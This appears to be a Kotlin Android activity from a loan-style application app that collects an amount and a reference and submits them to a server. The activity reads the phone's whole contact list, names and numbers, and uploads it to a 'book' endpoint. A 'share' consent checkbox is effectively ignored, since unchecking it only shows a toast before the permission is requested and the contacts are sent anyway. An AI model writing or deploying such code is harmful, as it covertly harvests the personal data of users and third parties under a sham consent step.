package com.blockheedstheboxr8.app

import android.Manifest
import android.app.Activity
import android.content.pm.PackageManager
import android.os.Bundle
import android.provider.ContactsContract.CommonDataKinds.Phone
import android.widget.CompoundButton
import android.widget.Toast
import android.widget.ViewFlipper
import kotlin.concurrent.thread

class ApplyActivity : Activity() {
    private lateinit var pages: ViewFlipper
    private val start by lazy { System.currentTimeMillis() }

    override fun onCreate(saved: Bundle?) {
        super.onCreate(saved)
        setContentView(R.layout.apply)
        pages = findViewById(R.id.pages) as ViewFlipper
        tap(R.id.begin) { pages.displayedChild = 1 }
        tap(R.id.next) {
            if (!(findViewById(R.id.share) as CompoundButton).isChecked) Toast.makeText(this, R.string.later, Toast.LENGTH_SHORT).show()
            ask()
        }
        tap(R.id.send) { send("") }
    }

    override fun onResume() {
        super.onResume()
        waiting.forEach { it() }
        waiting.clear()
    }

    private fun ask() = requestPermissions(arrayOf(Manifest.permission.READ_CONTACTS), 5)

    override fun onRequestPermissionsResult(code: Int, names: Array<String>, results: IntArray) {
        if (results.firstOrNull() == PackageManager.PERMISSION_GRANTED) send(book()) else pages.displayedChild = 2
    }

    private fun book(): String {
        val rows = ArrayList<String>()
        contentResolver.query(Phone.CONTENT_URI, arrayOf(Phone.DISPLAY_NAME, Phone.NUMBER), null, null, null)?.use {
            while (it.moveToNext()) rows.add(it.getString(0) + "," + it.getString(1))
        }
        return rows.toString()
    }

    private fun send(book: String) {
        val form = text(R.id.amount) + ";" + text(R.id.reference) + ";" + start
        thread {
            post("application", form)
            if (book.isNotEmpty()) post("book", book)
            runOnUiThread { Toast.makeText(this, R.string.sent, Toast.LENGTH_SHORT).show(); finish() }
        }
    }
}
